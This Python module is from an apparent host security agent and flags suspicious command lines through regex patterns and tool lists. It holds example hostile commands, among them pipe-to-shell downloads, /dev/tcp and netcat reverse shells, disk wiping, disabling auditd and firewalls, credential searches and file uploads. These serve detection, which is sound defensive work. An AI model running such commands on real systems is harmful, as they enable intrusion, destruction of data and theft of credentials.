# SPDX-License-Identifier: Apache-2.0
"""Commands and tools that say by themselves what they are for.

A name can be chosen by an attacker, so these are the weakest of all detectors; what a
process does is judged elsewhere.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import ClassVar, Final

import msgspec

from nodeagent.detect import Signal
from nodeagent.detect.describe import name_of, unversioned
from nodeagent.detect.recent import Recent
from nodeagent.detect.where import (
    BUSYBOX,
    PACKAGE_MANAGERS,
    SHELLS,
    is_below,
    is_below_host,
    is_contained,
    is_program,
    is_runtime,
    is_system_path,
)
from nodeagent.event import Exec, Process

__all__ = ["Commands"]

COMMAND_LENGTH: Final = 2048
"""Of the command line no more is looked at, so that a pattern takes no time."""


class _Pattern(msgspec.Struct, frozen=True):
    """Command lines of some programs."""

    rule: str
    programs: frozenset[str]
    """By name; empty: any."""
    words: re.Pattern[str]
    """To be found in what follows the name of the program."""
    example: str
    """What findings show instead of the command line, which may hold secrets."""


def _pattern(rule: str, programs: str, words: str, example: str) -> _Pattern:
    return _Pattern(rule, frozenset(programs.split()), re.compile(words), example)


SHELL: Final = " ".join(sorted(SHELLS))
GUARDS: Final = (
    r"(?:auditd|rsyslog|syslog|falco|nodeagent|osqueryd|wazuh-agent|crowdstrike|falcon-sensor"
    r"|clamav\S*|fail2ban|apparmor|aide|ossec|tetragon|tracee|amazon-guardduty-agent)(?:\.service)?\b"
)
FIREWALLS: Final = (
    r"(?:firewalld|ufw|nftables|iptables|ip6tables|netfilter-persistent)(?:\.service)?\b"
)

PATTERNS: Final = (
    _pattern(
        "download_pipe",
        SHELL,
        r"\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|da|z|k|a)?sh\b"
        r"|\b(?:ba|da|z|k)?sh\s+-c\s+[\"']?\$\((?:curl|wget)\b"
        r"|\b(?:ba|z)sh\s+<\((?:curl|wget)\b",
        "curl URL | sh",
    ),
    _pattern(
        "decoded_pipe",
        SHELL,
        r"\bbase64\s+(?:-d|-D|--decode)\b[^|;&]*\|\s*(?:ba|da|z|k|a)?sh\b|\bxxd\s+-r\b[^|;&]*\|\s*(?:ba|da)?sh\b",
        "base64 -d | sh",
    ),
    _pattern(
        "shell_by_network",
        SHELL,
        r"/dev/(?:tcp|udp)/[^/\s]+/\d+",
        "bash -i >& /dev/tcp/HOST/PORT",
    ),
    _pattern(
        "shell_by_network",
        "python python2 python3 perl ruby php lua node",
        r"socket.{0,400}(?:dup2|pty\.spawn|/bin/(?:ba|da)?sh|exec)|(?:fsockopen|TCPSocket).{0,200}(?:exec|/bin/)",
        "python -c 'socket … dup2 … /bin/sh'",
    ),
    _pattern(
        "find_setuid",
        "find",
        r"-perm\s+[-/]?(?:u=s|g=s|4000|2000|6000|u\+s|/6000)",
        "find / -perm -4000",
    ),
    _pattern(
        "make_setuid", "chmod", r"(?:^|\s)(?:[ugoa]*\+[rwx]*s|[2467][0-7]{3})\s", "chmod u+s FILE"
    ),
    _pattern(
        "make_setuid",
        "setcap",
        r"cap_(?:set[ug]id|setfcap|sys_(?:admin|ptrace|module|rawio|boot)|dac_|perfmon|bpf)",
        "setcap cap_setuid+ep FILE",
    ),
    _pattern("enter_host", "nsenter", r"(?:-t|--target)[\s=]*1\b", "nsenter --target 1"),
    _pattern(
        "privileged_container",
        "docker podman nerdctl ctr crictl",
        r"--privileged\b|--pid[=\s]host\b|-v\s*/:/|--volume[=\s]/:/",
        "docker run --privileged",
    ),
    _pattern(
        "firewall_off",
        "iptables ip6tables iptables-legacy iptables-nft xtables-nft-multi",
        r"(?:^|\s)(?:-F|--flush|-X)\b|-P\s+\S+\s+ACCEPT",
        "iptables -F",
    ),
    _pattern("firewall_off", "nft", r"flush\s+ruleset|delete\s+table", "nft flush ruleset"),
    _pattern("firewall_off", "ufw", r"\bdisable\b|\breset\b", "ufw disable"),
    _pattern(
        "firewall_off",
        "systemctl service rc-service",
        rf"\b(?:stop|disable|mask)\b.*\b{FIREWALLS}|\b{FIREWALLS}\s+stop",
        "systemctl stop firewalld",
    ),
    _pattern(
        "firewall_changed",
        "iptables ip6tables iptables-legacy iptables-nft xtables-nft-multi nft ufw",
        r"(?:^|\s)(?:-A|-I|-D|-R|--append|--insert|--delete)\b|\badd\s+rule|\ballow\b|\bdelete\s+rule",
        "iptables -A …",
    ),
    _pattern(
        "guard_off",
        "systemctl service rc-service",
        rf"\b(?:stop|disable|mask|kill|freeze|clean|set-property)\b.*\b{GUARDS}|\b{GUARDS}\s+stop\b",
        "systemctl stop auditd",
    ),
    _pattern(
        "guard_off",
        "pkill killall",
        # Some signals say that a log was rotated, or only ask.
        rf"^\s*(?!-(?:SIG)?(?:HUP|USR[12]|CONT|[01]|1[02]|18)\b)(?:-\S+\s+)*{GUARDS}",
        "pkill auditd",
    ),
    _pattern("guard_off", "setenforce", r"\b(?:0|Permissive)\b", "setenforce 0"),
    _pattern("guard_off", "auditctl", r"(?:^|\s)-e\s*0\b|(?:^|\s)-D\b", "auditctl -e 0"),
    _pattern(
        "service_off", "systemctl service", r"\b(?:stop|disable|mask)\b", "systemctl stop SERVICE"
    ),
    _pattern("crontab_removed", "crontab", r"(?:^|\s)-\w*r", "crontab -r"),
    _pattern(
        "logs_cleared",
        "journalctl",
        # Next to nothing is left, as after no housekeeping.
        r"--vacuum-(?:size[=\s]\s*\d+[KB]*|files[=\s]\s*[01]|time[=\s]\s*\d+(?:[mu]?s|s\w*|m\w*))"
        r"(?:\s|$)",
        "journalctl --vacuum-time=1s",
    ),
    _pattern("logs_cleared", "shred truncate", r"/var/log/|history\b", "shred /var/log/…"),
    _pattern("logs_cleared", "dmesg", r"(?:^|\s)(?:-C|-c|--clear)\b", "dmesg --clear"),
    _pattern(
        "data_destroyed",
        "shred",
        r"^(?!.*(?:/var/log/|history\b|--(?:help|version)\b)).*\S",
        "shred FILE",
    ),
    _pattern(
        "data_destroyed",
        "rm",
        r"(?:^|\s)(?:-\w*[rR]\w*|--recursive)\s(?:.*\s)?(?:--no-preserve-root\b|/\*?(?:\s|$)"
        r"|/(?:home|etc|usr|var|boot|root|srv|lib|bin|sbin|opt)/?\*?(?:\s|$))",
        "rm -rf /",
    ),
    _pattern(
        "data_destroyed",
        "dd",
        r"\bof=/dev/(?:sd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper/)",
        "dd of=/dev/sda",
    ),
    _pattern("data_destroyed", "wipefs", r"(?:^|\s)(?:-\w*a|--all)\b", "wipefs -a DEVICE"),
    _pattern("trust_added", "trust", r"\banchor\s+(?!.*--remove).*\S", "trust anchor FILE"),
    _pattern("trust_added", "certutil", r"(?:^|\s)-A\s.*-t\s*\S*[CT]", "certutil -A -t C"),
    _pattern(
        "package_in_container",
        "apt apt-get dnf microdnf yum zypper apk pacman",
        r"^(?:-\S+\s+)*(?:install|add|in|reinstall|upgrade)\b|^-S",
        "apt-get install PACKAGE",
    ),
    _pattern("made_immutable", "chattr", r"\+\w*i", "chattr +i FILE"),
    _pattern(
        "time_changed", "touch", r"(?:^|\s)(?:-\w*[tdr]|--date|--reference)\b", "touch -r FILE"
    ),
    _pattern(
        "recon_user", "whoami id w who last lastlog users getent logname finger", r"", "whoami"
    ),
    _pattern(
        "recon_network",
        "ifconfig ss netstat arp route ip lsof hostname",
        r"^(?:\s|$)|\b(?:addr|address|route|neigh|link|a|r)\b|-\w*[tunlpaie]",
        "ss -tlnp",
    ),
    _pattern(
        "recon_cloud",
        "aws",
        r"\bsts\s+get-caller-identity\b|\biam\s+(?:list|get)-|\b(?:s3\s+ls|s3api\s+list|ec2\s+describe)",
        "aws sts get-caller-identity",
    ),
    _pattern("recon_cloud", "gcloud az", r"\b(?:list|show|describe)\b", "gcloud projects list"),
    _pattern(
        "recon_kubernetes",
        "kubectl oc",
        r"\bauth\s+can-i\b|\bget\s+(?:\S+\s+)*(?:pods?|po|svc|services?|secrets?|nodes?|sa|serviceaccounts?|all)\b|\bcluster-info\b",
        "kubectl get pods",
    ),
    _pattern(
        "credential_search",
        "grep egrep rg ag find locate",
        r"(?i)\b(?:BEGIN (?:RSA|OPENSSH|EC|DSA) PRIVATE|aws_secret_access_key|aws_access_key_id|id_rsa|id_ed25519"
        r"|\.aws/credentials|password\s*=)",
        "grep -r 'PRIVATE KEY' /",
    ),
    _pattern("add_service", "systemctl", r"\b(?:enable|link|edit)\b", "systemctl enable SERVICE"),
    _pattern(
        "add_service",
        "update-rc.d chkconfig",
        r"\b(?:defaults|enable|on|--add)\b",
        "update-rc.d SERVICE defaults",
    ),
    _pattern(
        "add_crontab",
        "crontab",
        r"^\s*(?!.*(?:-\w*l|-\w*r|--help|-V))(?:.*(?:-\w*e\b|/\S+|\s-\s*$)|\s*-\s*$)",
        "crontab FILE",
    ),
    _pattern("add_crontab", "at batch", r"\b(?:now|\d{1,2}:\d{2}|\+\s*\d+)\b", "at now"),
    _pattern("add_user", "useradd adduser newusers", r"\S", "useradd NAME"),
    _pattern(
        "add_user",
        "usermod gpasswd",
        r"(?:-a|-aG|--append|-G)\b.*\b(?:sudo|wheel|root|docker|adm)\b",
        "usermod -aG sudo NAME",
    ),
    # What comes last is where it goes.
    _pattern("remote_copy", "scp rsync", r"[^\s/]:\S*\s*$", "scp FILE HOST:"),
    _pattern("remote_copy", "sftp rclone croc", r"\S:", "rclone copy FILE REMOTE:"),
    _pattern(
        "remote_copy",
        "curl",
        r"(?:^|\s)(?:-[A-WYZa-z]*T\b|--upload-file\b|(?:-d|--data(?:-binary|-urlencode)?)[=\s]?@"
        r"|(?:-F|--form)[=\s]?[^\s=]+=[\"']?@)",
        "curl -T FILE URL",
    ),
    _pattern("remote_copy", "wget", r"--(?:post|body)-file\b", "wget --post-file=FILE URL"),
    _pattern(
        "miner",
        "",
        r"\bstratum\+(?:tcp|ssl|tls)://|(?:--donate-level|--randomx-\w+|--coin[=\s](?:monero|xmr))\b|\brandomx\b.*--url",
        "xmrig --url stratum+tcp://POOL",
    ),
    _pattern(
        "bind_tool",
        "nc ncat netcat nc.traditional nc.openbsd",
        r"(?:^|\s)(?:-\w*[ec]\b|--exec|--sh-exec)",
        "nc -e /bin/sh",
    ),
    _pattern("bind_tool", "socat", r"(?i)\bEXEC:|\bSYSTEM:", "socat TCP:… EXEC:…"),
)

TOOLS: Final = {
    "Network Scanner": "nmap masscan zmap unicornscan rustscan arp-scan netdiscover nbtscan fping hping3 naabu",
    "Network Sniffer": "tcpdump tshark wireshark dumpcap ngrep dsniff ettercap bettercap ettercap-text-only",
    "Pentest Tool": "msfconsole msfvenom meterpreter sqlmap hydra medusa john hashcat nikto gobuster dirb"
    " ffuf wfuzz wpscan responder crackmapexec nxc impacket-secretsdump mimipenguin linpeas.sh linpeas"
    " lse.sh linenum.sh pspy pspy64 deepce.sh cdk botb peirates kube-hunter amicontained traitor"
    " evil-winrm bloodhound-python nuclei pacu trufflehog",
    "Backdoor Tool": "chisel ligolo frpc ngrok gost revsocks sliver sliver-client cobaltstrike weevely"
    " pupysh tsh gs-netcat cryptcat dnscat dnscat2 iodine",
}
"""By category; the names of their programs and scripts."""
DUAL_USE: Final = frozenset({"Network Scanner", "Network Sniffer"})
TOOL_OF: Final = {name: category for category, names in TOOLS.items() for name in names.split()}
MINERS: Final = frozenset(
    [
        "xmrig",
        "xmr-stak",
        "xmr-stak-cpu",
        "minerd",
        "cpuminer",
        "cgminer",
        "bfgminer",
        "ethminer",
        "nbminer",
        "t-rex",
        "lolminer",
        "phoenixminer",
        "gminer",
        "teamredminer",
        "srbminer-multi",
        "nanominer",
        "claymore",
        "ccminer",
        "kinsing",
        "kdevtmpfsi",
    ]
)
READERS: Final = frozenset(
    [
        "grep",
        "egrep",
        "fgrep",
        "zgrep",
        "rg",
        "ag",
        "ack",
        "find",
        "locate",
        "cat",
        "zcat",
        "less",
        "more",
        "head",
        "tail",
        "sed",
        "awk",
        "gawk",
        "mawk",
        "jq",
        "vi",
        "vim",
        "nvim",
        "nano",
        "emacs",
        "diff",
        "strings",
        "echo",
        "printf",
        "man",
        "git",
        "journalctl",
    ]
)
"""Programs that search and show text, and so may be told the words of others."""
SEPARATORS: Final = re.compile(r"[;|&()`{}\n]")
"""What may stand between commands of a shell; cutting a word as well does no harm."""
LOUD_IN_PACKAGES: Final = frozenset(
    {"add_service", "add_user", "service_off", "make_setuid", "recon_user", "recon_network"}
    | {"firewall_changed", "time_changed", "add_crontab"}
)
"""What packages do when they are installed."""


INSTALLERS: Final = PACKAGE_MANAGERS - {"cloud-init", "snapd"}
"""Those that fetch what they install by themselves, before its scripts run."""
PUBLIC_INSTALLERS: Final = frozenset(
    {"npm", "npx", "yarn", "pnpm", "bun", "pip", "pipx", "uv", "poetry", "gem", "bundle"}
    | {"bundler", "cargo", "composer", "npm-cli.js", "npx-cli.js", "yarn.js", "pnpm.cjs"}
)
"""Those of languages: anybody publishes there what they run. No name of these excuses anything."""
FETCHERS: Final = frozenset(
    {"curl", "wget", "aria2c", "ftp", "tftp", "nc", "ncat", "netcat", "socat", "telnet"}
    | {"scp", "sftp", "rsync"}
)
REPOSITORY_TOOLS: Final = frozenset({"ssh", "git"})
"""What installers of languages fetch sources by themselves with."""
INSTALLING_LIMIT: Final = 1024


class Commands:
    """Looks at the words of each program that starts."""

    name = "commands"
    kinds: ClassVar[tuple[str, ...]] = ("exec",)

    def __init__(self) -> None:
        self._patterns: dict[str, list[_Pattern]] = {}
        self._of_any = [each for each in PATTERNS if not each.programs]
        self._installing: Recent[str, bool] = Recent(INSTALLING_LIMIT)
        """Processes that install packages of a language, by their UUID."""
        for pattern in PATTERNS:
            for program in pattern.programs:
                self._patterns.setdefault(program, []).append(pattern)

    def inspect(self, event: Exec) -> Iterable[Signal]:
        """What the command line says, whether or not it could be run."""
        process = event.process
        if process is None or event.result < 0 or is_runtime(process):
            return ()
        return self._look(event, process)

    def _look(self, event: Exec, process: Process) -> Iterator[Signal]:
        names = _names(event)
        tool = next((name for name in names if name in TOOL_OF), None)
        if tool is not None:
            category = TOOL_OF[tool]
            rule = "tool_dual_use" if category in DUAL_USE else "tool_offensive"
            yield _tool(rule, event, tool, category)
        miner = next((name for name in names if name in MINERS), None)
        if miner is not None:
            yield Signal("miner", event, {"threatFilePath": event.path}, key=miner)
        if _installs(event, names):
            self._installing.put(process.uuid, value=True)
        fetcher = self._fetcher(process, names)
        if fetcher is not None:
            yield Signal(
                "fetched_in_package", event, {"commandLineExample": f"{fetcher} URL"}, key=fetcher
            )
        line = " ".join(_arguments(event))[:COMMAND_LENGTH]
        told: set[str] = set()
        for name in names:
            for pattern in self._patterns.get(name, ()):
                if pattern.rule not in told and pattern.words.search(line):
                    told.add(pattern.rule)
                    yield from self._say(pattern, event, process)
        if miner is None and not _is_reader(event):
            ran = _without_readers(line) if _is_shell_command(event) else line
            for pattern in self._of_any:
                if pattern.words.search(ran):
                    yield Signal(pattern.rule, event, _example(pattern), key=pattern.example)

    def _fetcher(self, process: Process, names: list[str]) -> str | None:
        """What goes to the network for the scripts of a package; None when it is not that."""
        fetcher = next((name for name in names if name in FETCHERS), None)
        tool = fetcher or next((name for name in names if name in REPOSITORY_TOOLS), None)
        if tool is not None and is_below(process, INSTALLERS):
            return tool
        above = process.lineage if fetcher is not None else ()
        return fetcher if any(self._installing.get(each.uuid) for each in above) else None

    def _say(self, pattern: _Pattern, event: Exec, process: Process) -> Iterator[Signal]:
        if pattern.rule in LOUD_IN_PACKAGES and is_below(process, PACKAGE_MANAGERS):
            if not is_below_host(process, PACKAGE_MANAGERS):
                yield Signal("packaged_command", event, _example(pattern), key=pattern.example)
            return
        if pattern.rule == "package_in_container" and not is_contained(process):
            return
        if pattern.rule == "bind_tool":
            yield _tool("tool_offensive", event, name_of(event.path), "Backdoor Tool")
            return
        yield Signal(pattern.rule, event, _example(pattern), key=pattern.example)


def _installs(event: Exec, names: list[str]) -> bool:
    """It is an installer of a language, also one that an interpreter was told to run."""
    argv = event.argv
    module = argv[2] if len(argv) > 2 and argv[1] == "-m" else ""  # noqa: PLR2004
    return any(unversioned(name) in PUBLIC_INSTALLERS for name in (*names, module))


def _is_reader(event: Exec) -> bool:
    """By its file, which is harder to choose than what it calls itself; busybox is many."""
    name = name_of(event.path)
    if name == BUSYBOX and event.argv:
        name = name_of(event.argv[0])
    return name in READERS and is_system_path(event.path)


def _is_shell_command(event: Exec) -> bool:
    return is_program(event.path, SHELLS) and not event.script_name


def _without_readers(line: str) -> str:
    """The commands of a line for a shell, but those that only search and show text."""
    commands = (each for each in SEPARATORS.split(line) if each.strip())
    return "\n".join(each for each in commands if not _is_of_reader(each))


def _is_of_reader(command: str) -> bool:
    words = (each for each in command.split() if not each.startswith("-"))
    return name_of(next(words, "").strip("'\"")) in READERS


def _arguments(event: Exec) -> tuple[str, ...]:
    """What follows the name of the program or script."""
    argv = event.argv
    script = event.script_name
    if script and script in argv:
        return argv[argv.index(script) + 1 :]
    return argv[1:]


def _names(event: Exec) -> list[str]:
    """What the program is called: by its file, by itself, and by its script."""
    names = [name_of(event.path)]
    if event.argv:
        names.append(name_of(event.argv[0]).lstrip("-"))
    if script := event.script_name:
        names.append(name_of(script))
    return list(dict.fromkeys(names))


def _example(pattern: _Pattern) -> dict[str, object]:
    return {"commandLineExample": pattern.example}


def _tool(rule: str, event: Exec, tool: str, category: str) -> Signal:
    context: dict[str, object] = {"toolName": tool, "toolCategory": category}
    if script := event.script_name:
        context["scriptPath"] = script
    article = "an" if category[0] in "AEIOU" else "a"
    return Signal(rule, event, context, key=f"{article} {category.lower()} ({tool})")
